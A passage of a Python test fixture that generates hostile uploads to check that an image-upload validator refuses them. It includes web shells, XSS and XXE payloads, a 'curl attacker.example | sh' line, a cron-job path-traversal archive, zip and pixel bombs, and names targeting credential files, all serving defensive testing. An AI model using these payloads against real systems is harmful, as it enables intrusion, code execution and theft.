"""A corpus of bad uploads, generated in memory (no binaries committed).

Sized for ``TEST_LIMITS`` below; every entry must be refused with a reason and leave nothing
behind. Each entry is (upload name, bytes, what it is); names and descriptions are distinct.
The hand-written list in ``bad_upload_corpus`` comes first, then families generated per format
(truncations, corrupt headers, foreign formats, markup, polyglots, pixel bombs, archives,
hostile names, executables and documents).
"""

import base64
import bz2
import gzip
import hashlib
import io
import lzma
import struct
import tarfile
import warnings
import zipfile
import zlib

from PIL import Image

from cases.uploads import UploadLimits
from tests.factories import distinct_png, image_bytes, zip_bytes

TEST_LIMITS = UploadLimits(
    max_file_bytes=2 * 1024 * 1024,
    max_pixels=4_000_000,
    archive_max_members=20,
    archive_max_total_bytes=8 * 1024 * 1024,
)


def _png_chunk(kind: bytes, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload)) + kind + payload + struct.pack(">I", zlib.crc32(kind + payload))


def png_with_header(width: int, height: int, idat: bytes = b"") -> bytes:
    """A PNG whose header claims any size: the cheap way to build a pixel flood."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", idat or zlib.compress(b"\x00" * 64))
        + _png_chunk(b"IEND", b"")
    )


def png_with_text_chunk(text: bytes) -> bytes:
    png = distinct_png(901)
    iend = png.rindex(b"IEND") - 4
    return png[:iend] + _png_chunk(b"tEXt", b"Comment\x00" + text) + png[iend:]


def jpeg_with_comment(comment: bytes) -> bytes:
    jpeg = image_bytes("JPEG", color=(10, 200, 30))
    segment = b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment
    return jpeg[:2] + segment + jpeg[2:]


def jpeg_with_size(width: int, height: int) -> bytes:
    jpeg = bytearray(image_bytes("JPEG"))
    sof = jpeg.index(b"\xff\xc0")
    jpeg[sof + 5 : sof + 9] = struct.pack(">HH", height, width)
    return bytes(jpeg)


def multi_frame(image_format: str) -> bytes:
    buffer = io.BytesIO()
    frames = [Image.new("RGB", (16, 16), color) for color in ((255, 0, 0), (0, 255, 0), (0, 0, 255))]
    frames[0].save(buffer, format=image_format, save_all=True, append_images=frames[1:])
    return buffer.getvalue()


def noise_png(width: int, height: int) -> bytes:
    import os

    buffer = io.BytesIO()
    Image.frombytes("RGB", (width, height), os.urandom(width * height * 3)).save(
        buffer, format="PNG", compress_level=0
    )
    return buffer.getvalue()


def corrupted_idat_png() -> bytes:
    png = bytearray(image_bytes("PNG", size=(64, 64)))
    start = png.index(b"IDAT") + 10
    png[start : start + 12] = b"\xff" * 12
    return bytes(png)


def zip_with_flags(
    name: str, data: bytes, flag_bits: int = 0, compression: int = zipfile.ZIP_DEFLATED
) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        info = zipfile.ZipInfo(name)
        info.compress_type = compression
        archive.writestr(info, data)
    raw = bytearray(buffer.getvalue())
    if flag_bits:
        # Set the "encrypted" bit in both the local and the central header.
        for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
            position = raw.index(signature) + offset
            raw[position] |= flag_bits
    return bytes(raw)


def zip_with_corrupt_member() -> bytes:
    raw = bytearray(zip_bytes({"cell.png": noise_png(40, 40)}, compression=zipfile.ZIP_STORED))
    position = raw.index(b"IDAT") + 20
    raw[position : position + 8] = b"\x00" * 8
    return bytes(raw)


def zip_symlink() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        info = zipfile.ZipInfo("link.png")
        info.external_attr = 0o120777 << 16
        archive.writestr(info, "/etc/passwd")
    return buffer.getvalue()


def zip_many_entries_same_data() -> bytes:
    """More members than allowed, each pointing at the same small image (overlap-style bomb)."""
    return zip_bytes(
        {f"cell-{index}.png": distinct_png(7) for index in range(TEST_LIMITS.archive_max_members + 5)}
    )


def _valid_png() -> bytes:
    return distinct_png(900)


def _bmp_with_wrong_size() -> bytes:
    bmp = bytearray(image_bytes("BMP"))
    bmp[2:6] = struct.pack("<I", len(bmp) + 100)
    return bytes(bmp)


def _hand_written() -> list[tuple[str, bytes, str]]:
    png = _valid_png()
    jpeg = image_bytes("JPEG")
    tiff = image_bytes("TIFF")
    bmp = image_bytes("BMP")
    html = b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"
    zeros = b"\x00" * (1536 * 1024)
    return [
        ("empty.png", b"", "zero bytes"),
        ("empty.jpg", b"", "zero bytes, other name"),
        ("truncated.png", png[: len(png) // 2], "truncated PNG"),
        ("signature-only.png", png[:8], "PNG signature only"),
        ("header-only.png", png[:33], "PNG without image data"),
        ("truncated.jpg", jpeg[: len(jpeg) // 2], "truncated JPEG"),
        ("soi-only.jpg", jpeg[:20], "JPEG header only"),
        ("truncated.tif", tiff[: len(tiff) // 2], "truncated TIFF"),
        ("truncated.bmp", bmp[: len(bmp) // 2], "truncated BMP"),
        ("wrong-size.bmp", _bmp_with_wrong_size(), "BMP whose header size lies"),
        ("corrupt-idat.png", corrupted_idat_png(), "PNG with corrupt compressed data"),
        ("bad-signature.png", b"\x89PNX\r\n\x1a\n" + png[8:], "PNG with a broken signature"),
        ("notes.png", b"just some text, not an image\n" * 10, "text renamed .png"),
        ("page.jpg", html, "HTML renamed .jpg"),
        ("script.png", b"<script>alert(1)</script>", "script renamed .png"),
        ("doc.png", b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF", "PDF renamed .png"),
        ("program.jpg", b"MZ\x90\x00" + b"\x00" * 200, "Windows executable renamed .jpg"),
        ("elf.png", b"\x7fELF\x02\x01\x01" + b"\x00" * 200, "ELF binary renamed .png"),
        ("shell.png", b"<?php system($_GET['c']); ?>", "PHP renamed .png"),
        ("data.png", b'{"not": "an image"}', "JSON renamed .png"),
        (
            "eicar.jpg",
            rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*",
            "EICAR test string",
        ),
        ("gzip.png", zlib.compress(png), "zlib stream renamed .png"),
        ("nul-bytes.png", b"\x00" * 4096, "only NUL bytes"),
        ("fake-magic.png", b"\x89PNG\r\n\x1a\n" + html, "PNG signature followed by HTML"),
        ("animation.gif", image_bytes("GIF"), "GIF: format not allowed"),
        ("photo.webp", image_bytes("WEBP"), "WebP: format not allowed"),
        ("icon.ico", image_bytes("ICO"), "ICO: format not allowed"),
        (
            "drawing.svg",
            b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
            "SVG with script",
        ),
        ("portable.ppm", image_bytes("PPM"), "PPM: format not allowed"),
        ("polyglot.png", png + html, "PNG/HTML polyglot: HTML after IEND"),
        ("text-chunk.png", png_with_text_chunk(html), "PNG with HTML in a tEXt chunk"),
        ("polyglot.jpg", jpeg + html, "JPEG/HTML polyglot"),
        ("comment.jpg", jpeg_with_comment(html), "JPEG with script in a comment segment"),
        ("png-zip.png", png + zip_bytes({"x.txt": b"payload"}), "PNG with a zip appended"),
        ("flood.png", png_with_header(100_000, 100_000), "pixel flood: 10 gigapixel PNG header"),
        ("flood-wide.png", png_with_header(4_000_001, 1), "pixel flood: just over the limit"),
        ("flood.jpg", jpeg_with_size(65_000, 65_000), "pixel flood: JPEG header"),
        ("zero-size.png", png_with_header(0, 0), "PNG claiming 0×0"),
        ("frames.tif", multi_frame("TIFF"), "multi-page TIFF"),
        ("frames.png", multi_frame("PNG"), "animated PNG"),
        ("oversized.png", noise_png(900, 900), "valid PNG over the per-file size limit"),
        ("..\\..\\windows\\evil.png", html, "traversal name, HTML content"),
        ("name\x1b[31m\r\n.png", b"not an image", "control characters in the name"),
        ("empty.zip", zip_bytes({}), "archive without files"),
        ("traversal.zip", zip_bytes({"../../etc/evil.png": png}), "archive member with ../"),
        ("absolute.zip", zip_bytes({"/etc/evil.png": png}), "archive member with an absolute path"),
        ("drive.zip", zip_bytes({"C:\\Windows\\evil.png": png}), "archive member with a drive letter"),
        ("control.zip", zip_bytes({"cell\x1b[2J.png": png}), "archive member with control characters"),
        ("rtl.zip", zip_bytes({"cell\u202egnp.exe": png}), "archive member with a right-to-left override"),
        ("bomb-ratio.zip", zip_bytes({"zeros.bmp": zeros}), "zip bomb: 1.5 MB of zeros in a few KB"),
        ("bomb-size.zip", zip_bytes({"huge.bmp": zeros * 2}), "zip bomb: member over the per-file limit"),
        (
            "bomb-total.zip",
            zip_bytes({f"part-{i}.bmp": zeros for i in range(6)}),
            "zip bomb: total over the archive limit",
        ),
        ("many.zip", zip_many_entries_same_data(), "more members than allowed"),
        ("nested.zip", zip_bytes({"inner.zip": zip_bytes({"cell.png": png})}), "archive inside an archive"),
        ("encrypted.zip", zip_with_flags("cell.png", png, flag_bits=0x1), "encrypted member"),
        (
            "bzip2.zip",
            zip_with_flags("cell.png", png, compression=zipfile.ZIP_BZIP2),
            "unsupported compression",
        ),
        ("corrupt-member.zip", zip_with_corrupt_member(), "member whose data fails its CRC"),
        ("truncated.zip", zip_bytes({"cell.png": png})[:60], "truncated archive"),
        ("symlink.zip", zip_symlink(), "symlink member"),
        ("bad-member.zip", zip_bytes({"notes.txt": b"hello"}), "archive member that is not an image"),
        ("html-member.zip", zip_bytes({"page.png": html}), "archive member with HTML renamed .png"),
    ]


Entry = tuple[str, bytes, str]
HTML = b"<html><body><script>fetch('/api/users/').then(r => r.text())</script></body></html>"


def noisy(image_format: str, size: tuple[int, int] = (48, 40), seed: int = 1, mode: str = "RGB") -> bytes:
    """A deterministic noise image: truncating it always cuts into pixel data."""
    width, height = size
    pixels = hashlib.shake_256(b"noise %d" % seed).digest(width * height * len(mode.replace("1", "L")))
    buffer = io.BytesIO()
    Image.frombytes(mode, size, pixels).save(buffer, format=image_format)
    return buffer.getvalue()


def _replace(data: bytes, offset: int, patch: bytes) -> bytes:
    return data[:offset] + patch + data[offset + len(patch) :]


def _truncations() -> list[Entry]:
    entries = []
    for image_format, extension in (("PNG", "png"), ("JPEG", "jpg"), ("BMP", "bmp"), ("TIFF", "tif")):
        data = noisy(image_format)
        cuts = {
            "1 byte": 1,
            "16 bytes": 16,
            "a quarter": len(data) // 4,
            "three quarters": 3 * len(data) // 4,
        }
        cuts["all but its last 20 bytes"] = len(data) - 20
        for label, length in cuts.items():
            entries.append((f"cut-{length}.{extension}", data[:length], f"{image_format} cut to {label}"))
    return entries


def _png_ihdr(
    width: int, height: int, depth: int = 8, colour: int = 2, compression: int = 0, interlace: int = 0
) -> bytes:
    return _png_chunk(
        b"IHDR", struct.pack(">IIBBBBB", width, height, depth, colour, compression, 0, interlace)
    )


def _png_from_chunks(*chunks: bytes) -> bytes:
    return b"\x89PNG\r\n\x1a\n" + b"".join(chunks)


def _png_corruptions() -> list[Entry]:
    idat = _png_chunk(b"IDAT", zlib.compress(b"\x00" + b"\x10\x20\x30" * 8))
    iend = _png_chunk(b"IEND", b"")
    valid = noisy("PNG", (8, 8), seed=2)
    bad_crc = bytearray(valid)
    bad_crc[29] ^= 0xFF  # last byte of the IHDR CRC
    return [
        ("crc.png", bytes(bad_crc), "PNG whose header CRC is wrong"),
        ("colour-type.png", _png_from_chunks(_png_ihdr(8, 1, colour=9), idat, iend), "PNG colour type 9"),
        ("bit-depth.png", _png_from_chunks(_png_ihdr(8, 1, depth=7), idat, iend), "PNG bit depth 7"),
        ("interlace.png", _png_from_chunks(_png_ihdr(8, 1, interlace=7), idat, iend), "PNG interlace 7"),
        ("no-idat.png", _png_from_chunks(_png_ihdr(8, 1), iend), "PNG without image data chunk"),
        ("no-ihdr.png", _png_from_chunks(idat, iend), "PNG without a header chunk"),
        (
            "two-ihdr.png",
            _png_from_chunks(_png_ihdr(8, 1), _png_ihdr(9000, 9000), idat, iend),
            "PNG with two headers",
        ),
        (
            "not-zlib.png",
            _png_from_chunks(_png_ihdr(8, 1), _png_chunk(b"IDAT", b"\x00" * 40), iend),
            "PNG data not zlib",
        ),
        (
            "short-idat.png",
            _png_from_chunks(_png_ihdr(64, 64), _png_chunk(b"IDAT", zlib.compress(b"\x00" * 10)), iend),
            "PNG with too little pixel data",
        ),
        (
            "huge-chunk.png",
            _png_from_chunks(_png_ihdr(8, 1), struct.pack(">I", 0x7FFFFFFF) + b"tEXt" + b"x" * 64),
            "PNG chunk claiming 2 GB",
        ),
        ("no-iend.png", valid[:-12], "PNG without its end chunk"),
    ]


def _jpeg_segment(marker: int, payload: bytes) -> bytes:
    return bytes([0xFF, marker]) + struct.pack(">H", len(payload) + 2) + payload


def _jpeg_corruptions() -> list[Entry]:
    jpeg = noisy("JPEG", seed=3)
    sof = jpeg.index(b"\xff\xc0")
    sos = jpeg.index(b"\xff\xda")
    return [
        ("zero-components.jpg", _replace(jpeg, sof + 9, b"\x00"), "JPEG frame with zero components"),
        ("precision.jpg", _replace(jpeg, sof + 4, b"\x0d"), "JPEG sample precision 13"),
        ("no-sof.jpg", jpeg[:sof] + jpeg[sos:], "JPEG without a frame header"),
        ("no-scan.jpg", jpeg[:sos] + b"\xff\xd9", "JPEG without scan data"),
        (
            "segment-past-end.jpg",
            jpeg[:2] + b"\xff\xe1\xff\xff" + b"Exif\x00\x00",
            "JPEG segment running past the end",
        ),
        ("no-eoi.jpg", jpeg[:-2], "JPEG without its end marker"),
        ("double-soi.jpg", b"\xff\xd8" + jpeg, "JPEG with two start markers"),
        ("scan-zeroed.jpg", jpeg[: sos + 20] + b"\x00" * 8, "JPEG whose scan stops after 8 zero bytes"),
    ]


def _bmp_corruptions() -> list[Entry]:
    bmp = noisy("BMP", seed=4)

    def field(offset: int, fmt: str, value: int) -> bytes:
        return _replace(bmp, offset, struct.pack(fmt, value))

    return [
        ("bpp.bmp", field(28, "<H", 7), "BMP with 7 bits per pixel"),
        ("compression.bmp", field(30, "<I", 9), "BMP compression method 9"),
        ("zero-width.bmp", field(18, "<i", 0), "BMP 0 pixels wide"),
        ("negative-width.bmp", field(18, "<i", -48), "BMP with negative width"),
        ("offset.bmp", field(10, "<I", 0x7FFFFFF0), "BMP pixel data offset past the end"),
        ("header-size.bmp", field(14, "<I", 7), "BMP info header of 7 bytes"),
    ]


def _tiff_ifd(entries: list[tuple[int, int, int, int]], next_ifd: int = 0) -> bytes:
    """A little-endian TIFF: header, then one IFD of (tag, type, count, value) at offset 8."""
    body = struct.pack("<H", len(entries)) + b"".join(struct.pack("<HHII", *entry) for entry in entries)
    return b"II*\x00" + struct.pack("<I", 8) + body + struct.pack("<I", next_ifd)


def _tiff(
    width: int = 8,
    height: int = 8,
    compression: int = 1,
    bits: int = 8,
    offset: int = 200,
    next_ifd: int = 0,
    with_pixels: bool = True,
) -> bytes:
    """A one-strip grey TIFF; without pixels only its header and directory."""
    short, long = 3, 4
    data = _tiff_ifd(
        [
            (256, long, 1, width),
            (257, long, 1, height),
            (258, short, 1, bits),
            (259, short, 1, compression),
            (262, short, 1, 1),
            (273, long, 1, offset),
            (277, short, 1, 1),
            (278, long, 1, height),
            (279, long, 1, width * height),
        ],
        next_ifd,
    )
    return data.ljust(offset, b"\x00") + b"\x80" * (width * height) if with_pixels else data


def _tiff_corruptions() -> list[Entry]:
    tiff = noisy("TIFF", seed=5)
    return [
        (
            "ifd-past-end.tif",
            b"II*\x00" + struct.pack("<I", 0x7FFFFFF0) + tiff[8:],
            "TIFF directory past the end",
        ),
        ("byte-order.tif", b"IX*\x00" + tiff[4:], "TIFF with an unknown byte order"),
        ("compression.tif", _tiff(compression=60001), "TIFF compression 60001 (unknown)"),
        ("strip-past-end.tif", _tiff(offset=0x7FFFFF00, with_pixels=False), "TIFF strip offset past the end"),
        ("bits.tif", _tiff(bits=3), "TIFF with 3 bits per sample"),
        (
            "zero-entries.tif",
            b"II*\x00\x08\x00\x00\x00\x00\x00\x00\x00\x00\x00",
            "TIFF with an empty directory",
        ),
        ("big-endian-cut.tif", b"MM\x00*\x00\x00\x00\x08\x00\xff", "big-endian TIFF cut in its directory"),
    ]


def _foreign_formats() -> list[Entry]:
    """Real images in formats the lab does not accept, named as accepted ones."""
    formats = [
        ("GIF", "RGB"),
        ("WEBP", "RGB"),
        ("ICO", "RGB"),
        ("PCX", "RGB"),
        ("TGA", "RGB"),
        ("SGI", "RGB"),
        ("IM", "RGB"),
        ("MSP", "1"),
        ("DDS", "RGB"),
        ("ICNS", "RGB"),
        ("XBM", "1"),
        ("SPIDER", "L"),
        ("PDF", "RGB"),
        ("EPS", "RGB"),
        ("JPEG2000", "RGB"),
        ("QOI", "RGB"),
        ("PALM", "1"),
        ("DIB", "RGB"),
        ("PPM", "L"),
        ("PPM", "1"),
    ]
    entries = []
    for index, (image_format, mode) in enumerate(formats):
        extension = ("png", "jpg", "tif", "bmp")[index % 4]
        size = (32, 32) if image_format == "ICNS" else (20, 12)
        data = noisy(image_format, size, seed=10 + index, mode=mode)
        entries.append(
            (
                f"{image_format.lower()}-{mode}.{extension}",
                data,
                f"{image_format} ({mode}) named .{extension}",
            )
        )
    return entries


def _markup() -> list[Entry]:
    """Documents a browser would render or run, named as images."""
    documents = {
        "svg-onload": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        "svg-foreign-object": b"<svg><foreignObject><body>x</body></foreignObject></svg>",
        "svg-xlink": b'<svg><a xlink:href="javascript:alert(1)">x</a></svg>',
        "svg-xxe": b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>',
        "xml-xxe": b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
        "html-iframe": b'<iframe src="https://attacker.example/"></iframe>',
        "html-object": b'<object data="x.swf"></object>',
        "html-embed": b'<embed src="x.swf">',
        "html-doctype": b"<!DOCTYPE html><title>cell</title>",
        "html-utf16": "<html><script>alert(1)</script></html>".encode("utf-16"),
        "html-bom": b"\xef\xbb\xbf<html><script>alert(2)</script></html>",
        "javascript-url": b"javascript:alert(document.domain)",
        "javascript": b"fetch('/api/users/').then(r => r.json()).then(console.log);",
        "php-short": b"<?php echo shell_exec($_GET['c']); ?>",
        "jsp": b'<% Runtime.getRuntime().exec(request.getParameter("c")); %>',
        "asp": b'<%@ Page Language="C#" %><% Response.Write("x"); %>',
        "shell": b"#!/bin/sh\ncurl https://attacker.example/x | sh\n",
        "python": b"#!/usr/bin/env python3\nimport os\nos.system('id')\n",
        "batch": b"@echo off\r\npowershell -enc SQBFAFgA\r\n",
        "htaccess": b"AddType application/x-httpd-php .png\n",
        "css": b"body { background: url(javascript:alert(1)) }",
        "data-uri": b"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "base64-png": base64.b64encode(distinct_png(5)),
        "csv-formula": b"=cmd|' /C calc'!A0,@SUM(1+1)\n",
        "xbm-text": b"#define x_width 1\n#define x_height 1\nstatic char x_bits[] = {0x00};\n",
        "whitespace": b" \t\r\n" * 64,
        "one-byte": b"\x89",
    }
    extensions = ("png", "jpg", "tif", "bmp", "jpeg", "tiff")
    return [
        (f"{name}.{extensions[index % len(extensions)]}", data, f"{name.replace('-', ' ')} named as an image")
        for index, (name, data) in enumerate(documents.items())
    ]


def _jpeg_app_segment(marker: int, payload: bytes) -> bytes:
    jpeg = noisy("JPEG", (16, 16), seed=6)
    return jpeg[:2] + _jpeg_segment(marker, payload) + jpeg[2:]


def _polyglots() -> list[Entry]:
    png = noisy("PNG", (16, 16), seed=7)
    jpeg = noisy("JPEG", (16, 16), seed=8)
    tiff = noisy("TIFF", (16, 16), seed=9)
    iend = png.rindex(b"IEND") - 4
    itxt = _png_chunk(b"iTXt", b"Comment\x00\x00\x00\x00\x00" + b"<svg onload=alert(1)>")
    exif_script = b"Exif\x00\x00II*\x00\x08\x00\x00\x00" + b"<script>alert(1)</script>"
    xmp = b"http://ns.adobe.com/xap/1.0/\x00<x:xmpmeta><iframe src=javascript:alert(1)></iframe></x:xmpmeta>"
    return [
        ("php-after.png", png + b"<?php system($_GET['c']); ?>", "PNG with PHP after its end"),
        ("pdf-after.png", png + b"%PDF-1.4\n%%EOF", "PNG/PDF polyglot"),
        ("itxt.png", png[:iend] + itxt + png[iend:], "PNG with SVG script in an iTXt chunk"),
        (
            "exif-chunk.png",
            png[:iend] + _png_chunk(b"eXIf", exif_script[6:]) + png[iend:],
            "PNG eXIf chunk with script",
        ),
        ("php-after.jpg", jpeg + b"<?php passthru('id'); ?>", "JPEG with PHP after its end"),
        ("zip-after.jpg", jpeg + zip_bytes({"payload.txt": b"x"}), "JPEG/ZIP polyglot"),
        ("pdf-after.jpg", jpeg + b"%PDF-1.7\n%%EOF", "JPEG/PDF polyglot"),
        ("exif-script.jpg", _jpeg_app_segment(0xE1, exif_script), "JPEG EXIF segment with script"),
        ("xmp-iframe.jpg", _jpeg_app_segment(0xE1, xmp), "JPEG XMP packet with an iframe"),
        ("app-html.jpg", _jpeg_app_segment(0xEC, HTML), "JPEG APP12 segment holding HTML"),
        ("html-after.tif", tiff + HTML, "TIFF with HTML after its data"),
        ("html-inside.bmp", _bmp_with_markup(), "BMP whose pixels spell <script>"),
        ("html-first.png", HTML + png, "HTML followed by a PNG"),
        ("comment-js.jpg", jpeg_with_comment(b"javascript:alert(1)"), "JPEG comment with a javascript: URL"),
        (
            "gifar.gif",
            image_bytes("GIF") + zip_bytes({"Main.class": b"\xca\xfe\xba\xbe"}),
            "GIF/JAR polyglot",
        ),
    ]


def _bmp_with_markup() -> bytes:
    """A valid BMP whose pixel bytes spell HTML: the file size in its header is right."""
    text = b"<script>alert(1)</script>".ljust(48, b" ")
    # BMP stores each pixel as blue, green, red: reverse every triple so the file reads as text.
    pixels = b"".join(text[index : index + 3][::-1] for index in range(0, len(text), 3))
    buffer = io.BytesIO()
    Image.frombytes("RGB", (16, 1), pixels).save(buffer, format="BMP")
    return buffer.getvalue()


def _bmp_with_size(width: int, height: int) -> bytes:
    bmp = image_bytes("BMP", size=(4, 4))
    return _replace(bmp, 18, struct.pack("<ii", width, height))


def _zero_png(size: tuple[int, int]) -> bytes:
    buffer = io.BytesIO()
    Image.new("L", size).save(buffer, format="PNG", optimize=True)
    return buffer.getvalue()


def _png_text_bomb(kind: bytes) -> bytes:
    png = distinct_png(902)
    iend = png.rindex(b"IEND") - 4
    bomb = zlib.compress(b"\x00" * (64 * 1024 * 1024), 9)
    payload = b"Comment\x00\x00" + bomb if kind == b"zTXt" else b"icc\x00\x00" + bomb
    return png[:iend] + _png_chunk(kind, payload) + png[iend:]


def _pixel_bombs() -> list[Entry]:
    return [
        ("bomb-5000.png", png_with_header(5000, 5000), "PNG header 5000×5000 (25 MP)"),
        ("bomb-2001.png", png_with_header(2001, 2000), "PNG header just over 4 MP"),
        ("bomb-max.png", png_with_header(0x7FFFFFFF, 0x7FFFFFFF), "PNG header 2³¹−1 squared"),
        ("bomb-tall.png", png_with_header(1, 0x7FFFFFFF), "PNG header 1×2³¹−1"),
        ("zero-width.png", png_with_header(0, 10), "PNG 0 pixels wide"),
        ("zero-height.png", png_with_header(10, 0), "PNG 0 pixels high"),
        ("real-bomb.png", _zero_png((2100, 2000)), "real 4.2 MP PNG of zeros in a few KB"),
        ("ztxt-bomb.png", _png_text_bomb(b"zTXt"), "PNG text chunk inflating to 64 MB"),
        ("iccp-bomb.png", _png_text_bomb(b"iCCP"), "PNG colour profile inflating to 64 MB"),
        ("bomb-max.jpg", jpeg_with_size(65535, 65535), "JPEG header 65535×65535"),
        ("bomb-wide.jpg", jpeg_with_size(65535, 100), "JPEG header 65535×100 (6.5 MP)"),
        ("zero.jpg", jpeg_with_size(0, 0), "JPEG header 0×0"),
        ("bomb.bmp", _bmp_with_size(100_000, 100_000), "BMP header 100000×100000"),
        ("bomb-top-down.bmp", _bmp_with_size(50_000, -50_000), "top-down BMP header 50000×50000"),
        ("bomb.tif", _tiff(width=60_000, height=60_000, with_pixels=False), "TIFF directory 60000×60000"),
        ("bomb.gif", b"GIF89a\xff\xff\xff\xff" + image_bytes("GIF")[10:], "GIF screen 65535×65535"),
    ]


def _zip_raw_members(members: list[tuple[str, bytes]], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    """An archive that may repeat names (zipfile warns but writes them)."""
    buffer = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)
        with zipfile.ZipFile(buffer, "w", compression=compression) as archive:
            for name, data in members:
                archive.writestr(name, data)
    return buffer.getvalue()


def _zip_lying_size() -> bytes:
    """The central directory says 10 bytes; the member inflates to 3 MB."""
    raw = bytearray(zip_bytes({"small.bmp": b"\x00" * (3 * 1024 * 1024)}))
    for signature, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        position = raw.index(signature) + offset
        raw[position : position + 4] = struct.pack("<I", 10)
    return bytes(raw)


def _zip_bad_crc() -> bytes:
    raw = bytearray(zip_bytes({"cell.png": distinct_png(903)}, compression=zipfile.ZIP_STORED))
    for signature, offset in ((b"PK\x03\x04", 14), (b"PK\x01\x02", 16)):
        position = raw.index(signature) + offset
        raw[position] ^= 0xFF
    return bytes(raw)


def _zip_with_comment(comment: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.comment = comment
        archive.writestr("readme.txt", b"x")
    return buffer.getvalue()


def _archives() -> list[Entry]:
    png = distinct_png(904)
    zeros = b"\x00" * (1536 * 1024)
    nested = zip_bytes({"cell.png": png})
    for depth in range(3):
        nested = zip_bytes({f"level-{depth}.zip": nested})
    return [
        (
            "backslash.zip",
            zip_bytes({"..\\..\\evil.png": png}),
            "archive member with ..\\ (Windows zip slip)",
        ),
        (
            "deep-slip.zip",
            zip_bytes({"cells/../../../evil.png": png}),
            "archive member climbing from a folder",
        ),
        ("unc.zip", zip_bytes({"\\\\server\\share\\evil.png": png}), "archive member with a UNC path"),
        ("drive-slash.zip", zip_bytes({"D:/evil.png": png}), "archive member with a drive letter and /"),
        ("zero-width.zip", zip_bytes({"cell\u200b.png": png}), "archive member with a zero-width space"),
        ("bidi.zip", zip_bytes({"cell\u2066.png": png}), "archive member with a bidi isolate"),
        ("newline.zip", zip_bytes({"cell\n.png": png}), "archive member with a newline"),
        (
            "nul-name.zip",
            zip_bytes({"cell.png\x00.exe": b"MZ" + b"\x00" * 60}),
            "archive member cut at NUL, executable",
        ),
        ("lying-size.zip", _zip_lying_size(), "zip bomb: member lies about its size"),
        ("bad-crc.zip", _zip_bad_crc(), "archive member whose CRC is wrong"),
        ("lzma.zip", zip_with_flags("cell.png", png, compression=zipfile.ZIP_LZMA), "LZMA-compressed member"),
        (
            "stored-big.zip",
            zip_bytes({"big.bmp": noise_png(850, 850)}, zipfile.ZIP_STORED),
            "stored member over the per-file limit",
        ),
        ("only-folders.zip", zip_bytes({"a/": b"", "a/b/": b""}), "archive holding only folders"),
        (
            "dupes.zip",
            _zip_raw_members([("c.png", b"one"), ("c.png", b"two")]),
            "archive with a repeated name",
        ),
        (
            "many-bad.zip",
            zip_bytes({f"bad-{i}.png": b"x%d" % i for i in range(25)}),
            "25 bad members (over the limit)",
        ),
        (
            "exe-member.zip",
            zip_bytes({"cell.png": b"MZ\x90\x00" + b"\x00" * 100}),
            "executable member named .png",
        ),
        ("svg-member.zip", zip_bytes({"cell.svg": b"<svg onload=alert(1)>"}), "SVG member"),
        ("bomb-member.zip", zip_bytes({"cell.png": png_with_header(9000, 9000)}), "pixel-bomb member"),
        (
            "truncated-member.zip",
            zip_bytes({"cell.jpg": noisy("JPEG", seed=12)[:300]}),
            "truncated JPEG member",
        ),
        ("polyglot-member.zip", zip_bytes({"cell.png": png + HTML}), "polyglot member"),
        ("nested-deep.zip", nested, "archives nested four deep (42.zip style)"),
        (
            "inner-named-png.zip",
            zip_bytes({"inner.png": zip_bytes({"c.png": png})}),
            "inner archive named .png",
        ),
        ("zip-as.png", zip_bytes({"notes.txt": b"not an image"}), "archive named .png with a text member"),
        ("no-central-directory.zip", zip_bytes({"cell.png": png})[:-22], "archive without its end record"),
        ("comment.zip", _zip_with_comment(HTML), "archive whose comment is HTML, text member"),
        (
            "jar.zip",
            zip_bytes({"META-INF/MANIFEST.MF": b"Main-Class: X\n", "X.class": b"\xca\xfe\xba\xbe"}),
            "Java archive",
        ),
        (
            "docx.zip",
            zip_bytes({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w/>"}),
            "Office document",
        ),
        ("bomb-ratio-small.zip", zip_bytes({"zeros.tif": zeros[: 1100 * 1024]}), "zip bomb: 1.1 MB of zeros"),
        ("tar.zip", _tar_with_traversal(), "tar archive with ../ named .zip"),
        ("gzip.zip", gzip.compress(png), "gzip named .zip"),
    ]


def _tar_with_traversal() -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        info = tarfile.TarInfo("../../etc/cron.d/evil")
        payload = b"* * * * * root id\n"
        info.size = len(payload)
        archive.addfile(info, io.BytesIO(payload))
    return buffer.getvalue()


def _hostile_names() -> list[Entry]:
    """Bad content under names that attack paths, headers or the eye."""
    names = [
        "../../../../etc/passwd",
        "..\\..\\..\\boot.ini",
        "/etc/shadow",
        "C:\\Windows\\System32\\cmd.exe",
        "cell.png\x00.php",
        "cell.php%00.png",
        "%2e%2e%2f%2e%2e%2fcell.png",
        "\u202egnp.php",
        "ｃｅｌｌ．ｐｎｇ",
        "cell\u200d\u200b.png",
        "CON.png",
        "a" * 1000 + ".png",
        "cell.png.exe",
        ".htaccess",
        "index.php",
        'x";filename="y.png',
        "cell\r\nContent-Type: text/html.png",
        "~/.ssh/authorized_keys",
        "🧫🔬.png",
        " ",
    ]
    return [
        (name, f"not an image, only a name: {index}".encode(), f"hostile name {index}: {name[:30]!r}")
